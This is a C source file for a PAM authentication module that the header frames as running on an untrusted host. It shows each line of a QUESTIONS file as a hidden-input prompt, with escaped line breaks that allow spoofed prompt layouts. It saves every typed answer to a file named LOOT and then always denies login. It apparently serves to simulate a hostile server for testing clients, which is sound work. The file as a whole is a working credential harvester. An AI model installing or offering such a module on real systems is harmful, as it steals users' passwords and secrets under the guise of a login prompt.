/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A PAM module of a host that cannot be trusted: it asks each line of the file
 * QUESTIONS, in which \n and \r are written out, appends each answer to the
 * file LOOT, and refuses.
 */
#include <security/pam_ext.h>
#include <security/pam_modules.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* Turns \n and \r into what they stand for, and takes the line end off. */
static void
read_escapes(char *text)
{
    char *to = text;

    for (; *text != '\0' && *text != '\n'; text++)
        if (text[0] == '\\' && (text[1] == 'n' || text[1] == 'r'))
            *to++ = *++text == 'n' ? '\n' : '\r';
        else
            *to++ = *text;
    *to = '\0';
}

int
pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv)
{
    FILE *questions = argc == 2 ? fopen(argv[0], "r") : NULL;
    FILE *loot = argc == 2 ? fopen(argv[1], "a") : NULL;
    char line[1024];

    (void)flags;
    if (questions == NULL || loot == NULL)
        return PAM_SYSTEM_ERR;
    while (fgets(line, sizeof line, questions) != NULL) {
        char *answer = NULL;

        read_escapes(line);
        pam_prompt(pamh, PAM_PROMPT_ECHO_OFF, &answer, "%s", line);
        fprintf(loot, "%s\n", answer != NULL ? answer : "");
        free(answer);
    }
    fclose(questions);
    fclose(loot);
    return PAM_AUTH_ERR;
}

int
pam_sm_setcred(pam_handle_t *pamh, int flags, int argc, const char **argv)
{
    (void)pamh;
    (void)flags;
    (void)argc;
    (void)argv;
    return PAM_SUCCESS;
}
